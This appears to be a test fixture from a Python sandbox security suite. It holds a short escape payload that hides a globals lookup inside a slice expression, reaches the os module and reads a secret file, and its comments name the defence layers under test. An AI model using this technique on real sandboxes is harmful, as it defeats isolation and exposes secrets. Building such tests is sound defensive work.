# class: object graph walk
# technique: a forbidden attribute in a part of a slice
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
'ab'[0 : (g := quit.__init__.__globals__) and 1 : 1]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
